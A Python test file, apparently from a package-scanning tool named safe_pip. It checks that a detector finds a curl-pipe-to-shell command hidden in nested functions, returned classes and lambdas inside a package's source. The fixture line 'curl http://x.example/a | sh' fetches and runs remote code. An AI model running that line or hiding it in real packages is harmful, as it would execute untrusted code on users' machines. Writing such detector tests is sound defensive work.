"""Functions that nobody in the distribution calls are read wherever they are defined: whoever gets
them may call them."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

BAD = "os.system('curl http://x.example/a | sh')"
WAYS = {
    "returned": f"def outer():\n    def inner():\n        {BAD}\n    return inner\n",
    "method of a returned class": (
        f"def outer():\n    class A:\n        def go(self):\n            {BAD}\n    return A\n"
    ),
    "three deep": (
        f"def a():\n    def b():\n        def c():\n            {BAD}\n        return c\n    return b\n"
    ),
    "lambda by a name": f"f = lambda: {BAD}\n",
    "lambda as an attribute": f"import x\nx.hook = lambda: {BAD}\n",
    "lambda handed on": f"import x\nx.register('y', lambda: {BAD})\n",
    "lambda in a lambda": f"f = lambda: lambda: {BAD}\n",
}


@pytest.mark.parametrize("way", WAYS)
def test_function_that_is_given_away(way: str) -> None:
    found = observe(distribution_of({"pkg/core.py": f"import os\n{WAYS[way]}"}))
    assert "shell_download" in {evidence.feature for evidence in found}
